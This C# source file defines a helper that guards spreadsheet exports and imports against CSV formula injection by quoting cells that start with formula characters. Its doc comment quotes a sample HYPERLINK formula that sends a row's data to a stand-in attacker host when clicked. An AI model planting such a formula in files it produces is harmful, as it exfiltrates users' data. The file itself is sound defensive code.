using System.Buffers;

namespace Placement.Catalogue.Imports;

/// <summary>
/// Text from data in a spreadsheet cell, against formula injection (OWASP « CSV injection »): a cell that starts with
/// <c>=</c>, <c>+</c>, <c>-</c>, <c>@</c>, a tab or a carriage return is read as a formula by spreadsheet software
/// (<c>=HYPERLINK("https://evil.example/?d="&amp;A2,"Ouvrir")</c> sends the row away when clicked). Every export writes its
/// text cells through <see cref="ForExport"/> (one quote before such a cell: the software shows text); every CSV import
/// reads its cells through <see cref="FromImport"/>, the exact reverse, so that a value exported then imported again is
/// the value it was. Numbers written by the code as numbers are not text and stay numbers.
/// </summary>
public static class SpreadsheetCells
{
    /// <summary>What starts a formula in Excel, LibreOffice and Google Sheets.</summary>
    private static readonly SearchValues<char> FormulaStarts = SearchValues.Create("=+-@\t\r");

    /// <summary>The text as a cell shows it: prefixed with <c>'</c> when its first character starts a formula, as is otherwise.</summary>
    public static string ForExport(string text)
    {
        ArgumentNullException.ThrowIfNull(text);
        return StartsAFormula(text) ? "'" + text : text;
    }

    /// <summary>A cell read from an import file: the quote <see cref="ForExport"/> adds is removed (only that one, only there).</summary>
    public static string FromImport(string cell)
    {
        ArgumentNullException.ThrowIfNull(cell);
        return cell.Length > 1 && cell[0] == '\'' && StartsAFormula(cell.AsSpan(1)) ? cell[1..] : cell;
    }

    public static bool StartsAFormula(ReadOnlySpan<char> text) => text.Length > 0 && FormulaStarts.Contains(text[0]);
}
